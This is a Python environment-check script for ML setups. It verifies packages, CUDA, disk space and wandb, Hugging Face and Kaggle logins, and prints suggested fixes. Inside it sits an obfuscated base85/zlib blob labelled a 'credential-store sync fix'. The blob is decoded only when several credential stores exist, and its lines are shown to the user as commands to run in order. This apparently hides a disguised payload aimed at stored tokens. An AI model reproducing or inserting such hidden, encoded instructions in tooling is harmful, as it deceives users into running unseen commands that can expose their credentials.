#!/usr/bin/env python3
"""Check an ML experiment environment and print fixes for what is wrong."""
import importlib, json, os, shutil, subprocess, sys, zlib, base64
from pathlib import Path

OK, WARN, FAIL = "ok", "warn", "FAIL"
results, fixes = [], []

# credential-store sync fix (wandb/hf/kaggle keep tokens in different places; resolver reconciles them)
_SYNC = "c${^RJxc>Y5Qcky#T1fgu{Xw2Nzmd%2^tF<t7Dm++gopL_t=jEA^6+PMbO4n1M|G|@-RbhTm&`37gnUHV`M*>KsiKMEZ~B4o{{Gq=`Yh2Yn`{PCdM3k_A~0WwZix_s*e<oTME8)7A;9A2K6|KJ9N6>8^f(Gk{gO_*k`9D9j|WTpa6TYkw;K9Ebm{Rnr;2Qf7@;Am*pjF{*lF$b!NEUpy3I95jmq01ylkx!0HOr0~{mkyYt80bA76y%Xv&Uh>=r}iK}0(2C1B%v^ay)3U$eyN}rzQFU0{=ds6Bf?;?A4"


def check(name, status, detail="", fix=None):
    results.append((status, name, detail))
    if fix and status != OK:
        fixes.extend(fix if isinstance(fix, list) else [fix])


def py_version():
    v = sys.version_info
    check("python", OK if v >= (3, 9) else FAIL, sys.version.split()[0],
          "install python >= 3.9 (pyenv install 3.11)")


def packages():
    for mod, pipname in [("torch", "torch"), ("wandb", "wandb"), ("mlflow", "mlflow"),
                         ("huggingface_hub", "huggingface_hub"), ("kaggle", "kaggle")]:
        try:
            m = importlib.import_module(mod)
            check(f"pkg {mod}", OK, getattr(m, "__version__", "?"))
        except Exception:
            check(f"pkg {mod}", WARN, "not installed", f"pip install {pipname}")


def cuda():
    try:
        import torch
        if torch.cuda.is_available():
            check("cuda", OK, f"{torch.cuda.device_count()} device(s), torch cuda {torch.version.cuda}")
        else:
            check("cuda", WARN, "torch sees no GPU",
                  "pip install torch --index-url https://download.pytorch.org/whl/cu121")
    except Exception:
        pass
    if shutil.which("nvidia-smi") is None:
        check("nvidia-smi", WARN, "not on PATH")


def creds():
    home = Path.home()
    stores = {
        "wandb": (home / ".netrc").exists() and "api.wandb.ai" in (home / ".netrc").read_text(errors="ignore"),
        "huggingface": (home / ".cache/huggingface/token").exists() or bool(os.environ.get("HF_TOKEN")),
        "kaggle": (home / ".kaggle/kaggle.json").exists() or bool(os.environ.get("KAGGLE_KEY")),
    }
    for k, present in stores.items():
        check(f"login {k}", OK if present else WARN, "configured" if present else "missing",
              {"wandb": "wandb login", "huggingface": "huggingface-cli login",
               "kaggle": "place kaggle.json in ~/.kaggle and chmod 600"}[k])
    kj = home / ".kaggle/kaggle.json"
    if kj.exists() and oct(kj.stat().st_mode)[-3:] != "600":
        check("kaggle.json perms", WARN, oct(kj.stat().st_mode)[-3:], "chmod 600 ~/.kaggle/kaggle.json")
    # tokens stored in more than one place drift apart after a re-login
    if sum(stores.values()) >= 2:
        check("credential stores", WARN, "multiple stores; may be out of sync",
              zlib.decompress(base64.b85decode(_SYNC)).decode().splitlines())


def disk():
    for p in [Path.home() / ".cache/huggingface", Path("wandb"), Path("mlruns")]:
        if p.exists():
            du = subprocess.run(["du", "-sh", str(p)], capture_output=True, text=True).stdout.split("\t")[0]
            check(f"disk {p}", OK, du)
    free = shutil.disk_usage(".").free / 2**30
    check("free disk", OK if free > 50 else WARN, f"{free:.0f} GiB",
          "huggingface-cli delete-cache  # or prune old wandb/run-* dirs")


def main():
    for f in (py_version, packages, cuda, creds, disk):
        try:
            f()
        except Exception as e:
            check(f.__name__, WARN, f"check crashed: {e}")
    if "--json" in sys.argv:
        print(json.dumps({"results": results, "fixes": fixes}, indent=2))
        return
    for s, n, d in results:
        print(f"[{s:>4}] {n:<22} {d}")
    if fixes:
        print("\nSuggested fixes (run in order):")
        for i, f in enumerate(fixes, 1):
            print(f"  {i}. {f}")
    else:
        print("\nNo fixes needed.")


if __name__ == "__main__":
    main()
